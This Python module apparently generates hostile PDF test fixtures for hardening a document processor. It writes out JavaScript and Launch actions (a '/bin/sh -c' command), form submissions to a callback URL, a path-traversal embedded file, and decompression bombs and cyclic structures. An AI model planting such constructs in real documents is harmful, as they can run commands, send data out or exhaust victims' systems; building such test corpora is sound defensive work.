"""PDF files with active content, endless structure or broken structure."""

from __future__ import annotations

import io
import zlib
from collections.abc import Sequence
from typing import Literal

import pikepdf
from hostile_model import (
    ANY,
    BOMB,
    BROKEN,
    CALLBACK_URL,
    ESCAPE_NAME,
    INERT,
    LOCKED,
    Draw,
    FileRecipe,
)
from repeated_bytes import Expansion

_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>>>>>"
)
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    head = b"<</Length %d%s>>\nstream\n" % (len(data), extra)
    return head + data + b"\nendstream"


def _text(words: str) -> bytes:
    return _stream(f"BT /F1 12 Tf 60 780 Td ({words}) Tj ET".encode("ascii"))


def _pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """Write the objects 1, 2, ... with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    size = len(objects) + 1
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (size, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def _page_of(draw: Draw, catalog: bytes = _CATALOG, *more: bytes) -> bytes:
    words = _text(f"Synthetic page {draw.token()}")
    return _pdf((catalog, _PAGES, _PAGE, words, _FONT, *more))


def _catalog(extra: str) -> bytes:
    return f"<</Type/Catalog/Pages 2 0 R{extra}>>".encode()


def _truncated(draw: Draw) -> bytes:
    lines = " ".join(draw.token() for _ in range(400))
    whole = _pdf((_CATALOG, _PAGES, _PAGE, _text(lines), _FONT))
    return whole[: draw.rng.randrange(400, 3000)]


def _javascript(draw: Draw) -> bytes:
    script = f"app.launchURL\\('{CALLBACK_URL}', true\\);"
    action = f"/OpenAction<</S/JavaScript/JS({script})>>"
    named = "/Names<</JavaScript<</Names[(a) 6 0 R]>>>>"
    body = f"<</S/JavaScript/JS({script})>>".encode()
    return _page_of(draw, _catalog(action + named), body)


def _launch(draw: Draw) -> bytes:
    command = f"/F(/bin/sh)/P(-c 'touch /tmp/{ESCAPE_NAME}')"
    return _page_of(draw, _catalog(f"/OpenAction<</S/Launch{command}>>"))


def _remote(draw: Draw) -> bytes:
    kinds = (
        f"<</S/URI/URI({CALLBACK_URL})>>",
        f"<</S/SubmitForm/F({CALLBACK_URL})>>",
        "<</S/GoToR/F(//127.0.0.1/share/file.pdf)/D[0/Fit]>>",
        f"<</S/ImportData/F({CALLBACK_URL})>>",
    )
    return _page_of(draw, _catalog(f"/OpenAction{kinds[draw.turn % len(kinds)]}"))


def _embedded(draw: Draw) -> bytes:
    names = "/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>"
    name = f"../../{ESCAPE_NAME}"
    spec = f"<</Type/Filespec/F({name})/UF({name})/EF<</F 7 0 R>>>>".encode()
    program = _stream(b"MZ" + draw.rng.randbytes(2000), b"/Type/EmbeddedFile")
    return _page_of(draw, _catalog(names), spec, program)


def _recursive_pages(draw: Draw) -> bytes:
    loops = (b"[2 0 R 3 0 R]", b"[3 0 R 6 0 R]", b"[6 0 R 6 0 R]")
    pages = b"<</Type/Pages/Kids%s/Count 2>>" % loops[draw.turn % 3]
    below = b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 2>>"
    words = _text(f"Synthetic page {draw.token()}")
    return _pdf((_CATALOG, pages, _PAGE, words, _FONT, below))


def _huge_page(draw: Draw) -> bytes:
    side = draw.around(1_000_000_000, 0.5)
    box = b"MediaBox[0 0 %d %d]/UserUnit 1000" % (side, side)
    page = _PAGE.replace(b"MediaBox[0 0 595 842]", box)
    words = _text(f"Synthetic page {draw.token()}")
    return _pdf((_CATALOG, _PAGES, page, words, _FONT))


def _many_pages(draw: Draw) -> bytes:
    count = draw.around(10_000)
    kids = b" ".join(b"%d 0 R" % n for n in range(3, count + 3))
    pages = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return _pdf((_CATALOG, pages, *([page] * count)))


def _cyclic_xref(draw: Draw) -> bytes:
    """The table of older objects is the table itself, or does not exist."""
    whole = _page_of(draw)
    start = whole.rindex(b"xref\n0 ")
    target = (start, 10**9, 0)[draw.turn % 3]
    return whole.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % target)


def _stream_bomb(draw: Draw) -> bytes:
    """A page content of two gibibytes of blanks, compressed twice."""
    inner = Expansion(draw.around(2 << 30, 0.05), 0x20).zlib()
    content = _stream(zlib.compress(inner, 9), b"/Filter[/FlateDecode/FlateDecode]")
    return _pdf((_CATALOG, _PAGES, _PAGE, content, _FONT))


def _image_bomb(draw: Draw) -> bytes:
    """An image of 65,500 by 65,500 points that is four gibibytes of black."""
    side = 65_500 - draw.turn
    head = (
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray"
        b"/BitsPerComponent 8/Filter[/FlateDecode/FlateDecode]" % (side, side)
    )
    packed = zlib.compress(Expansion(side * side).zlib(), 9)
    page = _PAGE.replace(b"/Font<<", b"/XObject<</I 6 0 R>>/Font<<")
    content = _stream(b"q 500 0 0 500 50 100 cm /I Do Q")
    return _pdf((_CATALOG, _PAGES, page, content, _FONT, _stream(packed, head)))


def _deep_arrays(draw: Draw) -> bytes:
    depth = draw.around(50_000)
    return _page_of(draw, _CATALOG, b"[" * depth + b"]" * depth)


def _form_loop(draw: Draw) -> bytes:
    """Two drawings that draw each other, and twice at that."""
    head = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {} 0 R>>>>"
    twice = b"/X Do /X Do"
    forms = [_stream(twice, head.format(n).encode()) for n in (7, 6)]
    page = _PAGE.replace(b"/Font<<", b"/XObject<</X 6 0 R>>/Font<<")
    content = _stream(f"/X Do % {draw.token()}".encode())
    return _pdf((_CATALOG, _PAGES, page, content, _FONT, *forms))


def _encrypted(draw: Draw, revision: Literal[3, 6]) -> bytes:
    buffer = io.BytesIO()
    strong = revision >= 4
    lock = pikepdf.Encryption(
        owner=f"owner-{draw.token()}",
        user=f"user-{draw.token()}",
        R=revision,
        aes=strong,
        metadata=strong,
    )
    with pikepdf.open(io.BytesIO(_page_of(draw))) as document:
        document.save(buffer, encryption=lock, static_id=True)
    return buffer.getvalue()


def _encrypted_old(draw: Draw) -> bytes:
    return _encrypted(draw, 3)


def _encrypted_new(draw: Draw) -> bytes:
    return _encrypted(draw, 6)


# The cipher of this kind draws its own salts: same kind, other bytes every time.
NOT_REPEATABLE = frozenset(("pdf-encrypted-aes256",))

RECIPES = (
    FileRecipe("pdf-javascript", ".pdf", INERT, _javascript),
    FileRecipe("pdf-encrypted", ".pdf", LOCKED, _encrypted_old),
    FileRecipe("pdf-recursive-page-tree", ".pdf", INERT, _recursive_pages),
    FileRecipe("pdf-stream-bomb", ".pdf", BOMB, _stream_bomb),
    FileRecipe("pdf-truncated", ".pdf", BROKEN, _truncated),
    FileRecipe("pdf-launch", ".pdf", INERT, _launch),
    FileRecipe("pdf-cyclic-xref", ".pdf", INERT, _cyclic_xref),
    FileRecipe("pdf-huge-mediabox", ".pdf", INERT, _huge_page),
    FileRecipe("pdf-remote-action", ".pdf", INERT, _remote),
    FileRecipe("pdf-embedded-file", ".pdf", INERT, _embedded),
    FileRecipe("pdf-10000-empty-pages", ".pdf", ANY, _many_pages),
    FileRecipe("pdf-image-bomb", ".pdf", BOMB, _image_bomb),
    FileRecipe("pdf-deep-arrays", ".pdf", INERT, _deep_arrays),
    FileRecipe("pdf-form-loop", ".pdf", INERT, _form_loop),
    FileRecipe("pdf-encrypted-aes256", ".pdf", LOCKED, _encrypted_new),
)
